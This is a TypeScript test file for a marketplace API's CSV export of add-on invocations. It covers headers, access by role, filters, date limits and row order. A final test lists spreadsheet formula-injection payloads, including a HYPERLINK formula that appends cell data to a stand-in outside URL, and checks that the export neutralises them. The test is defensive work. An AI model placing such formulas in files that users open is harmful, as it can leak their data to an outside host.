import { csvParse, csvParseRows } from "d3-dsv";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { lookUp } from "../support/add-ons.ts";
import type { Login } from "../support/gateway.ts";
import { storeInvocations } from "../support/logged-rows.ts";
import { answering } from "../support/loopback-publisher.ts";
import { startMarketplace, type LoggedInvocation, type Marketplace, type Offer } from "../support/marketplace.ts";

const DAY_MS = 24 * 3_600_000;
const dayOf = (atMs: number): string => new Date(atMs).toISOString().slice(0, 10);

/** Around now, also when midnight comes meanwhile. */
const NOW = `Start=${dayOf(Date.now() - DAY_MS)}&End=${dayOf(Date.now() + DAY_MS)}`;

type Listed = LoggedInvocation & { phone_number: { country_code: string | null; last_four: string } | null; url: string };

/** What a row of the file must say of an element of the list. */
function flat({ attempts, phone_number, price, url: _url, ...rest }: Listed): Record<string, string> {
  const texts = Object.entries(rest).map(([name, value]) => [name, value === null ? "" : String(value)]);
  return {
    ...Object.fromEntries(texts),
    price: Number(price).toFixed(6),
    attempts: String(attempts.length),
    phone_number_country_code: phone_number?.country_code ?? "",
    phone_number_last_four: phone_number?.last_four ?? "",
  };
}

describe("the file of invocations", () => {
  let market: Marketplace;
  let cheap: Offer;
  let refused: Offer;

  beforeAll(async () => {
    market = await startMarketplace();
    cheap = await market.offer(answering({}), { pricing: { model: "per_use", unit_price: "0.000001", currency: "USD" } }, { UniqueName: "chosen_by_the_developer" });
    const dear = await market.offer(answering({}), { pricing: { model: "per_use", unit_price: "1.5", currency: "USD" } });
    refused = await market.offer(answering({}, 403));
    for (const offer of [cheap, dear, refused, cheap]) await market.run(offer);
    await lookUp(market.gateway, market.developer, ["not_installed"]);
  });
  afterAll(async () => {
    await market.stop();
    expect(market.publisher.violations).toEqual([]);
  });

  const file = (login: Login, query: string) => market.gateway.call(login, "GET", `/v1/Invocations.csv?${query}`);
  const rowsOf = async (login: Login, query: string) => csvParse((await file(login, query)).text);
  const sids = async (login: Login, query: string): Promise<string[]> => (await rowsOf(login, query)).map(({ sid = "" }) => sid);

  const statuses = async (query: string): Promise<string[]> => (await rowsOf(market.developer, `${NOW}&${query}`)).map(({ status, code }) => `${status} ${code}`);

  async function list(login: Login, query = ""): Promise<Listed[]> {
    const listed: Listed[] = [];
    for (let path: string | null = `/v1/Invocations?PageSize=1000&${query}`; path !== null; ) {
      const { body }: { body: { invocations: Listed[]; meta: { next_page_url: string | null } } } = await market.gateway.call(login, "GET", path);
      listed.push(...body.invocations);
      path = body.meta.next_page_url?.slice(market.gateway.url.length) ?? null;
    }
    return listed;
  }

  it("has the rows of the list, newest first, with a header row", async () => {
    const rows = await rowsOf(market.developer, NOW);
    const listed = await list(market.developer);
    expect(rows).toHaveLength(5);
    expect([...rows]).toEqual(listed.map(flat));
    expect(rows.map(({ price }) => price)).toEqual(["0.000000", "0.000001", "0.000000", "1.500000", "0.000001"]);
    expect(rows[0]).toMatchObject({ status: "failed", code: "61003", role: "developer", phone_number_country_code: "US", phone_number_last_four: "4546" });
    expect(rows.columns).toHaveLength(Object.keys(flat(listed[0] ?? expect.fail("nothing is listed"))).length);
  });

  it("is a CSV file to be saved, not a page: its type, its name, and line ends as RFC 4180 has them", async () => {
    const { status, headers, text } = await file(market.developer, NOW);
    expect(status).toBe(200);
    expect(headers.get("Content-Type")).toBe("text/csv; charset=utf-8");
    expect(headers.get("Content-Disposition")).toBe('attachment; filename="invocations.csv"');
    expect(headers.get("X-Content-Type-Options")).toBe("nosniff");
    expect(headers.get("Twilio-Request-Id")).toMatch(/^RQ[0-9a-f]{32}$/);
    expect(text.split("\r\n")).toHaveLength(5 + 2);
    expect(text.replaceAll("\r\n", "")).not.toMatch(/[\r\n]/);
    expect(text.endsWith("\r\n")).toBe(true);
  });

  it("shows a publisher the calls to its add-ons, and nothing of who looked whom up", async () => {
    // What the developer just read is in the database.
    await list(market.developer);
    const { text } = await file(market.owner, NOW);
    const rows = csvParse(text);
    expect(rows).toHaveLength(4);
    expect([...rows]).toEqual((await list(market.owner)).map(flat));
    expect(new Set(rows.map(({ role, account_sid, unique_name, phone_number_last_four }) => [role, account_sid, unique_name, phone_number_last_four].join()))).toEqual(new Set(["publisher,,,"]));
    for (const hidden of [market.developer.sid, ",4546", "chosen_by_the_developer", "not_installed"]) expect(text).not.toContain(hidden);
  });

  it("takes the list's filters", async () => {
    expect(await statuses("Status=successful")).toEqual(["successful ", "successful ", "successful "]);
    expect(await statuses("Code=61003")).toEqual(["failed 61003"]);
    expect(await statuses(`AddOnSid=${cheap.addOnSid}`)).toEqual(["successful ", "successful "]);
    expect(await statuses(`AddOnSid=${refused.addOnSid}&Status=successful`)).toEqual([]);
  });

  it("shows an account its own only; who has none gets the header", async () => {
    const header = (await file(market.developer, NOW)).text.split("\r\n", 1)[0];
    const stranger = await market.gateway.account("Stranger");
    for (const login of [stranger, market.gateway.operator]) expect((await file(login, NOW)).text).toBe(`${header}\r\n`);
    expect(await market.gateway.call(null, "GET", `/v1/Invocations.csv?${NOW}`)).toMatchObject({ status: 401, body: { code: 20003 } });
  });

  it("has every row of a long log once, in the list's order, also where many began at the same time", async () => {
    const [developer, publisher] = [await market.gateway.account(), await market.gateway.account()];
    const stored = await storeInvocations(market.gateway, { developer, publisher, count: 7_000, startMs: Date.UTC(2026, 0, 10), everyMs: 1_000 });
    for (const login of [developer, publisher]) {
      const rows = await sids(login, "Start=2026-01-10&End=2026-01-10");
      expect(rows).toEqual(stored.toReversed());
      expect(rows).toEqual((await list(login)).map(({ sid }) => sid));
    }
  });

  it("includes both ends: a day is whole, and so is a second; 31 days are not too many", async () => {
    const [developer, publisher] = [await market.gateway.account(), await market.gateway.account()];
    const at = async (startMs: number): Promise<string> => (await storeInvocations(market.gateway, { developer, publisher, count: 1, startMs, everyMs: 0 }))[0] ?? "";
    const startMs = Date.UTC(2026, 2, 1);
    const endMs = startMs + 31 * DAY_MS;
    const [before, first, last, after] = [await at(startMs - 1), await at(startMs), await at(endMs - 1), await at(endMs)];
    expect(await sids(developer, "Start=2026-03-01&End=2026-03-31")).toEqual([last, first]);
    expect(await sids(developer, "Start=2026-03-01T00:00:00Z&End=2026-03-31T23:59:59Z")).toEqual([last, first]);
    expect(await sids(developer, "Start=2026-03-01T00:00:01Z&End=2026-03-31T23:59:58Z")).toEqual([]);
    expect(await sids(developer, "Start=2026-02-28&End=2026-02-28")).toEqual([before]);
    expect(await sids(developer, "Start=2026-04-01T00:00:00Z&End=2026-04-01T00:00:00Z")).toEqual([after]);
  });

  it.each([
    ["End=2026-01-31", "Start is required"],
    ["Start=2026-01-31", "End is required"],
    ["Start=&End=2026-01-31", "Start must be a date"],
    ["Start=2026-01-31&End=31.01.2026", "End must be a date"],
    ["Start=2026-02-30&End=2026-03-01", "Start must be a date"],
    ["Start=2026-01-01T00:00:00%2B01:00&End=2026-01-02", "Start must be a date"],
    ["Start=2026-01-02&End=2026-01-01", "Start must not be after End"],
    ["Start=2026-01-01T12:00:01Z&End=2026-01-01T12:00:00Z", "Start must not be after End"],
    ["Start=2026-03-01&End=2026-04-01", "Start to End must be at most 31 days"],
    ["Start=2026-03-01T00:00:00Z&End=2026-04-01T00:00:00Z", "Start to End must be at most 31 days"],
    ["Start=2026-01-01&Start=2026-01-02&End=2026-01-02", "Start must be sent once"],
    ["Start=2026-01-01&End=2026-01-02&Status=pending", "Status"],
    ["Start=2026-01-01&End=2026-01-02&Code=1", "Code"],
  ])("is refused with %s", async (query, message) => {
    const { status, body } = await file(market.developer, query);
    expect(body).toMatchObject({ code: 20001, status: 400, message: expect.stringContaining(message) });
    expect(status).toBe(400);
  });

  it("is read with GET and HEAD, and no call's SID is taken for it", async () => {
    const posted = await market.gateway.call(market.developer, "POST", `/v1/Invocations.csv?${NOW}`);
    expect([posted.status, posted.headers.get("Allow")]).toEqual([405, "GET"]);
    const head = await market.gateway.call(market.developer, "HEAD", `/v1/Invocations.csv?${NOW}`);
    expect([head.status, head.headers.get("Content-Type"), head.text]).toEqual([200, "text/csv; charset=utf-8", ""]);
    expect((await market.gateway.call(market.developer, "GET", "/v1/Invocations/.csv")).status).toBe(404);
  });
});

describe("texts in the file that others chose", () => {
  let market: Marketplace;
  beforeAll(async () => {
    market = await startMarketplace();
  });
  afterAll(() => market.stop());

  const FORMULAS = ["=1+1", "+1", "-1+1", "@SUM(A1)", "\t=1", "\r=1", "\n=1", "\uff1d1+1", '=HYPERLINK("https://elsewhere.example.com/?x="&A1,"Invoice")', "=1,2"];
  const TEXTS = ['a "quoted" word', "one, two", "two\r\nlines", "two\nlines", '"', ",", "\u{1f4de} \u00e9", "1-1=0", "'=1", "-0.000001", ""];

  it("are read back as they are, and none is a formula to a spreadsheet", async () => {
    const { gateway, developer, owner: publisher } = market;
    const texts = [...FORMULAS, ...TEXTS];
    for (const [index, text] of texts.entries()) {
      await storeInvocations(gateway, { developer, publisher, count: 1, startMs: Date.UTC(2026, 0, 1) - index * 1_000, everyMs: 0, texts: { unique_name: text, detail: text, warning: text } });
    }
    const { text } = await gateway.call(developer, "GET", "/v1/Invocations.csv?Start=2025-12-31&End=2026-01-01");
    const [header = [], ...rows] = csvParseRows(text);
    const expected = [...FORMULAS.map((formula) => `'${formula}`), ...TEXTS];
    expect(rows.map((row) => row[header.indexOf("unique_name")])).toEqual(expected);
    expect(rows.map((row) => row[header.indexOf("detail")])).toEqual(expected);
    expect(rows.map((row) => row.length)).toEqual(texts.map(() => header.length));

    const seen = csvParse((await gateway.call(publisher, "GET", "/v1/Invocations.csv?Start=2025-12-31&End=2026-01-01")).text);
    expect(seen.map(({ warning }) => warning)).toEqual(expected);
  });
});
